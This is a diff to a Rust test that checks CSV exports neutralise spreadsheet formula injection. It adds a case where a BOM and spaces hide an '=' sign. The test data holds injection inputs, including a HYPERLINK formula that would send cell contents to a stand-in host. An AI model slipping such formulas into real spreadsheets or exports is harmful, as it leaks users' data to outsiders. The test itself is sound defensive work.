@@ -1165,6 +1165,7 @@ fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_the
         area(C01),
     );
     w.owner_contact = "+225 07 00 00 00".into();
+    w.owner_name = " \u{feff}=1+1".into();
     w.location.point = Some(GeoPoint {
         latitude: 6.8,
         longitude: -5.25,
@@ -1204,6 +1205,8 @@ fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_the
         "'=HYPERLINK(\"http://x.example/?\"&A1)"
     );
     assert_eq!(cell("workplaces.csv", "owner_contact"), "'+225 07 00 00 00");
+    // Blanks before the sign do not hide it.
+    assert_eq!(cell("workplaces.csv", "owner_name"), "' \u{feff}=1+1");
     // A number is no formula: a negative longitude stays a number.
     assert_eq!(cell("workplaces.csv", "longitude"), "-5.25");
     assert_eq!(
